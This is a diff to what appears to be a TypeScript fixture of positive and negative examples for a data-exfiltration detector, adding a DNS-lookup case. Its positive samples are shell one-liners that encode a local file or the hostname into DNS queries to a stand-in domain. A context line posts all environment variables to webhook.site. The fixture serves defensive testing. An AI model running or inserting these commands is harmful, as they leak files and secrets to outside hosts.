@@ -1,6 +1,18 @@
 import { type FamilyExamples, fence, sh } from "./example.ts";
 
 export const exfiltrationExamples: FamilyExamples = {
+  "T08-name-look-up": {
+    positive: [
+      { "a.sh": 'for c in $(cat notes | xxd -p | fold -w 60); do\n  dig +short "$c.q.namewell.net"\ndone\n' },
+      { "b.sh": "nslookup $(hostname).t.namewell.net\n" },
+      { "c.sh": "x=$(base64 -w0 notes)\nhost $x.r.namewell.net\n" },
+    ],
+    negative: [
+      { "a.sh": "dig +short www.namewell.net\n" },
+      { "b.sh": "for d in $DOMAINS; do dig +short $d; done\n" },
+      { "c.sh": "base64 -w0 notes > notes.b64\n" },
+    ],
+  },
   "T08-flow-shady": {
     positive: [
       { "a.py": 'import os, requests\nrequests.post("https://webhook.site/ab", json=dict(os.environ))\n' },
